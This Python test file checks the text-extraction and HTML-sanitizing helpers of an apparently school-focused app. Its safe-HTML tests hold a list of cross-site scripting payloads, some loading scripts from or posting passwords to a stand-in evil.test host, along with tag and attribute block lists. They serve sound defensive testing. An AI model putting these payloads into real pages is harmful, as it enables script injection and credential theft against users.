"""Text for readers, and HTML that can do no harm."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schoolsync.flow.html import safe_html, text_of, unescaped

# --- text -------------------------------------------------------------------------------

TEXTS = [
    ("", ""),
    ("  plain   text ", "plain text"),
    ("two\nlines", "two\nlines"),
    ("a\r\n\r\n\r\n\r\nb", "a\n\nb"),
    ("Tom &amp; Zo&euml; &#039;s &lt;3", "Tom & Zoë 's <3"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ("<p>Complete pages 4&ndash;5.</p>", "Complete pages 4–5."),
    ("<p>a</p><p>b</p>", "a\n\nb"),
    ("<p>a</p>\n\n<p>b</p>", "a\n\nb"),
    ("<p>a</p><p>&nbsp;</p><p></p><p>b</p>", "a\n\nb"),
    ("<div>a</div><div>b</div>", "a\nb"),
    ("<div>a</div> \n <div>b</div>", "a\nb"),
    ("<div><div><div>a</div></div></div>b", "a\nb"),
    ("<ul>\n <li>one</li>\n <li>two</li>\n</ul>after", "one\ntwo\nafter"),
    ("a<br>b<br/><br>c", "a\nb\n\nc"),
    ("<p>a<br></p><p>b</p>", "a\n\nb"),
    ("a<hr>b", "a\nb"),
    ("<h2>Title</h2>text", "Title\ntext"),
    ("<table><tr><th>a</th><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "a b\nc d"),
    ("<b>bo</b>ld and <i>ital</i>ic", "bold and italic"),
    ("<b>a</b> <i>b</i>", "a b"),
    ("one\ntwo <b>three</b>", "one two three"),
    ("<span> a </span><span> b </span>", "a b"),
    ("&lt;p&gt;<b>&amp;lt;</b>", "<p>&lt;"),
    ("<p title='a > b <p>'>c</p>", "c"),
    ("a<!-- nobody reads this -->b", "ab"),
    ("<script>alert(1)</script><style>p {}</style><title>t</title><noscript>n</noscript>a", "a"),
    ("<head><title>t</title></head><body><p>a", "a"),
    ("<p>not closed <b>at all", "not closed at all"),
    ("</p></div>a</b>", "a"),
    ("<select><option>a<option>b</select>", "a\nb"),
    ("<a href='https://example.test'>link</a>", "link"),
    ("<img src=x alt='A picture'>a", "a"),
    ("<o:p>Word's own</o:p>", "Word's own"),
    ("<", "<"),
    ("<>", "<>"),
    ("<p", ""),
]


@pytest.mark.parametrize(("markup", "text"), TEXTS)
def test_text_of(markup: str, text: str) -> None:
    """One line a block or `<br>`, an empty line between paragraphs, spaces folded."""
    assert text_of(markup) == text


@given(st.text(alphabet="ab \n<>&;/pdivbr'\"=", max_size=80))
@example("<p><table><p></table>")
@example("&lt;b&gt;&amp;amp;")
def test_text_is_tidy(markup: str) -> None:
    """Whatever is written: no outer spaces, no run of empty lines, no spaces at the end of a line."""
    text = text_of(markup)
    assert text == text.strip()
    assert "\n\n\n" not in text
    assert all(line == " ".join(line.split()) for line in text.split("\n"))


def test_depth_is_no_trouble() -> None:
    """A page as deep as its writer likes, far beyond what Python would follow."""
    assert text_of("<div>" * 5000 + "a" + "</div>" * 5000) == "a"
    assert text_of("<b>" * 5000 + "a") == "a"


def test_unescaped() -> None:
    """Names as they are meant; once only."""
    assert unescaped("Science &amp; Technology") == "Science & Technology"
    assert unescaped("Zo&euml; &#039;&#x41;&quot;") == "Zoë 'A\""
    assert unescaped("&amp;lt;") == "&lt;"
    assert unescaped("Tom & Jerry") == "Tom & Jerry"


# --- safe HTML ----------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) style='background:url(javascript:alert(1))' class=x id=y>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' jAvA\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<blockquote cite='javascript:alert(1)'>a</blockquote>",
    "<iframe src=//evil.test></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.test><input name=password><button>Send</button></form>",
    "<style>@import '//evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test><base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg><svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio src=x autoplay></audio>",
    "<map><area href='javascript:alert(1)'></map><img usemap=#x>",
    "<details open ontoggle=alert(1)>a</details>",
    "<!--><script>alert(1)</script>-->",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>a</td></table>",
    "<x onclick=alert(1)>a</x>",
    "<p><a href='https://example.test' target=_blank onmouseover=alert(1)>a</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
SAFE_ATTRIBUTES = frozenset(
    "align char charoff colspan datetime dir headers href hreflang lang rel rowspan scope size span start"
    " summary title width".split()
)
HARMFUL = frozenset(
    "script style iframe object embed form input button img svg math link meta base template video audio map"
    " area noscript textarea select".split()
)


class Inspector(HTMLParser):
    """Fails on anything that a page could do harm with; another parser than the cleaner's."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        assert tag not in HARMFUL
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, name
            scheme, colon, _ = (value or "").strip().partition(":")
            if name == "href" and colon and "/" not in scheme:
                assert scheme in {"http", "https", "mailto", "tel"}, value

    def handle_comment(self, data: str) -> None:
        """There is none."""
        raise AssertionError(data)


def inspected(markup: str) -> str:
    """*markup*, after it was found harmless."""
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return markup


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_is_left(attack: str) -> None:
    """Neither alone nor inside and after other things, nor when it is cleaned once more."""
    for markup in (attack, f"<p>a {attack} b</p>", f"<ul><li>{attack}", f"{attack}{attack}"):
        inspected(safe_html(inspected(safe_html(markup))))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<", "&", "'", '"', "a", "<table>", "</svg>"]), max_size=5
    )
)
def test_nothing_harmful_is_made_of_harmless_parts(parts: list[str]) -> None:
    """Pieces that only become an attack together are cleaned together."""
    inspected(safe_html("".join(parts)))


def test_the_inspector_sees() -> None:
    """Each attack is one to it, before cleaning; but for those that only browsers understand."""
    seen = 0
    for attack in ATTACKS:
        try:
            inspected(attack)
        except AssertionError:
            seen += 1
    assert seen >= len(ATTACKS) - 1


HARMLESS = [
    "plain text, even with > and \" and '",
    "<p>Complete <strong>pages</strong> 4–5.</p>",
    "<ul><li>one</li><li>two</li></ul>",
    '<a href="https://example.test/a?b=c" rel="noopener noreferrer">link</a>',
    '<a href="mailto:office@example.test" rel="noopener noreferrer">post</a>',
    "<table><tbody><tr><td>a</td></tr></tbody></table>",
    "<h2>Title</h2><br><em>a</em>",
]


@pytest.mark.parametrize("markup", HARMLESS)
def test_what_teachers_write_stays(markup: str) -> None:
    """Paragraphs, lists, tables, links."""
    assert safe_html(markup) == markup


def test_a_lone_ampersand_becomes_html() -> None:
    """Text with one is cleaned, text without either sign is not touched."""
    assert safe_html("Tom & Jerry") == "Tom &amp; Jerry"
    untouched = f"no markup {len(HARMLESS)}"
    assert safe_html(untouched) is untouched


def test_links_do_not_open_the_door_behind_them() -> None:
    """`rel` is set on every link, whatever it said."""
    assert safe_html("<a href='https://example.test' rel='opener'>a</a>") == (
        '<a href="https://example.test" rel="noopener noreferrer">a</a>'
    )


def test_many_threads_may_clean_at_once() -> None:
    """The kept cleaner belongs to nobody."""
    markup = "<p onclick=x>a</p>" * 50
    with ThreadPoolExecutor(8) as pool:
        cleaned = set(pool.map(lambda _: (safe_html(markup), text_of(markup)), range(64)))
    assert cleaned == {("<p>a</p>" * 50, "\n\n".join("a" * 50))}


@pytest.mark.parametrize("depth", [5_001, 200_000])
def test_markup_that_nobody_writes_is_text(depth: int) -> None:
    """A parser would work on it for minutes; its words stay, and stay harmless."""
    markup = "<div>" * depth + "Bring &lt;wellies&gt; &amp; a coat" + "</div>"

    assert text_of(markup) == "Bring <wellies> & a coat"
    assert safe_html(markup).strip() == "Bring &lt;wellies&gt; &amp; a coat"
